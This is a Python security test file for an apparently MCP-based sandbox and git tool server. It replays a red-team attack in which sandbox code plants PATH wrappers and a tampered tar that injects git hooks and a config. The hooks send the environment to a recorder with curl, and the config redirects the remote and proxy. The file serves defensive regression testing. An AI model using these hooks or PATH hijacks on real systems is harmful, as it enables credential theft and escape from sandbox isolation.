"""Issue 8, finding 1: sandbox code must never run in the networked git helper, nor configure it.

The attack as the red team ran it: sandbox code puts programs in /workspace/.local/bin (first on the
image's PATH) — a `tar` that appends a crafted `config` and hooks to the archive Corral used to
extract into the helper — then the model calls git_push / git_pull with credentials. The hooks
phone home to a recorder on this machine with the environment they see (where the Authorization
header used to be), and the config points the remote at the recorder with `url.*.insteadOf`.
"""

from __future__ import annotations

import secrets
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

import anyio
import pytest
from mcp import Client

from tests.helpers import call_error, call_ok
from tests.integration.git_server import GitServer
from tests.security.attack_servers import Recorder, Recorders, recorders

__all__ = ["recorders"]

WAIT = 180
PLANTED = ("git", "tar", "sh", "rm", "mkdir", "cat", "env", "curl")


async def call(client: Client, tool: str, **args: Any) -> dict[str, Any]:
    with anyio.fail_after(WAIT):
        return await call_ok(client, tool, **args)


async def sh(client: Client, sandbox: str, command: str) -> str:
    out = await call(client, "run_command", sandbox=sandbox, command=command)
    assert out["exit_code"] == 0, out
    return str(out["stdout"])


def plant_script(recorder: Recorder, git_base: str) -> str:
    """Shell run in the sandbox by the 'attacker': wrappers on PATH that leave a mark and, for tar,
    append a config and hooks to whatever archive they write."""
    hook = f"""#!/bin/sh
/usr/bin/curl -s -m 5 --data-binary "$(/usr/bin/env)" "{recorder.base}/hook/$(/usr/bin/basename "$0")" >/dev/null 2>&1
exit 0
"""
    config = f"""[core]
\trepositoryformatversion = 0
\tbare = true
[url "{recorder.base}/"]
\tinsteadOf = {git_base}/
[http]
\tproxy = {recorder.base}
"""
    lines = ["set -e", "mkdir -p /workspace/.local/bin /workspace/.evil/hooks"]
    lines.append(f"cat > /workspace/.evil/config <<'EOF'\n{config}EOF")
    for name in ("pre-push", "reference-transaction", "post-checkout", "pre-receive"):
        lines.append(f"cat > /workspace/.evil/hooks/{name} <<'EOF'\n{hook}EOF")
    lines.append("chmod +x /workspace/.evil/hooks/*")
    for prog in PLANTED:
        extra = ""
        if prog == "tar":
            # tar -cf OUT ...: after the real one, append the crafted config and hooks to OUT.
            extra = 'case "$1" in -c*f) /bin/tar -rf "$2" -C /workspace/.evil config hooks ;; esac\n'
        wrapper = (
            f'#!/bin/sh\necho {prog} >> /workspace/.pwned\n'
            f'/usr/bin/{prog} "$@" || exit $?\n{extra}exit 0\n'
        )
        lines.append(f"cat > /workspace/.local/bin/{prog} <<'EOF'\n{wrapper}EOF")
    lines.append("chmod +x /workspace/.local/bin/*")
    return "\n".join(lines)


@dataclass
class Victim:
    sandbox: str
    repo: str
    recorder: Recorder


@pytest.fixture
async def victim(client: Client, git_server: GitServer, recorders: Recorders) -> AsyncIterator[Victim]:
    """A sandbox of its own with a private clone, attacked before the test's tool calls."""
    box = (await call(client, "create_sandbox"))["id"]
    try:
        repo = f"/workspace/victim-{secrets.token_hex(3)}"
        await call(client, "git_clone", sandbox=box, url=git_server.url("private.git"), path=repo,
                   credentials=git_server.creds())
        gateway = urlsplit(git_server.base).hostname
        assert gateway
        recorder = recorders.start(gateway)
        await sh(client, box, plant_script(recorder, git_server.base))
        # The planted programs work for whoever calls them by name (the attack is real).
        assert (await sh(client, box, "git --version >/dev/null && /bin/cat /workspace/.pwned")) == "git\n"
        await sh(client, box, "/bin/rm -f /workspace/.pwned")
        yield Victim(box, repo, recorder)
    finally:
        with anyio.CancelScope(shield=True):
            await client.call_tool("delete_sandbox", {"sandbox": box})


async def assert_unharmed(client: Client, victim: Victim, other_sandbox: str) -> None:
    hits = [(r.method, r.path) for r in victim.recorder.requests]
    assert hits == [], f"sandbox code reached the network from the helper: {hits}"
    marks = await call(client, "run_command", sandbox=victim.sandbox, command="/bin/cat /workspace/.pwned")
    assert marks["exit_code"] != 0, f"Corral ran programs the sandbox planted on PATH: {marks['stdout']}"
    # The server answers the next call normally, and other sandboxes are unaffected.
    assert (await sh(client, other_sandbox, "echo ok")) == "ok\n"


async def test_push_with_planted_tar_config_and_hooks_leaks_nothing(
    client: Client, sandbox: str, git_server: GitServer, victim: Victim
) -> None:
    await call(client, "write_file", sandbox=victim.sandbox, path=f"{victim.repo}/pushed.txt", content="x\n")
    made = await call(client, "git_commit", sandbox=victim.sandbox, repo=victim.repo, message="Pushed past the trap")
    pushed = await call(client, "git_push", sandbox=victim.sandbox, repo=victim.repo, credentials=git_server.creds())
    assert (pushed["result"], pushed["head"]) == ("pushed", made["sha"])
    assert git_server.log("private.git", fmt="%H")[0] == made["sha"]
    await assert_unharmed(client, victim, sandbox)


async def test_pull_with_planted_tar_config_and_hooks_leaks_nothing(
    client: Client, sandbox: str, git_server: GitServer, victim: Victim
) -> None:
    git_server.commit_on_server("private.git", f"s-{secrets.token_hex(3)}.txt", "s\n", "Server side, pulled")
    pulled = await call(client, "git_pull", sandbox=victim.sandbox, repo=victim.repo, credentials=git_server.creds())
    assert pulled["result"] == "fast-forward"
    assert pulled["after"] == git_server.log("private.git", fmt="%H")[0]
    await assert_unharmed(client, victim, sandbox)


async def test_clone_and_local_git_tools_never_run_planted_programs(
    client: Client, sandbox: str, git_server: GitServer, victim: Victim
) -> None:
    repo = f"/workspace/again-{secrets.token_hex(3)}"
    await call(client, "git_clone", sandbox=victim.sandbox, url=git_server.url("public.git"), path=repo)
    await call(client, "git_status", sandbox=victim.sandbox, repo=repo)
    await call(client, "git_log", sandbox=victim.sandbox, repo=repo)
    await call(client, "write_file", sandbox=victim.sandbox, path=f"{repo}/a.txt", content="a\n")
    await call(client, "git_commit", sandbox=victim.sandbox, repo=repo, message="Local")
    await call(client, "git_checkout", sandbox=victim.sandbox, repo=repo, branch="side", create=True)
    message = await call_error(client, "git_clone", sandbox=victim.sandbox, url=git_server.url("public.git"), path=repo)
    assert "not an empty directory" in message
    await assert_unharmed(client, victim, sandbox)
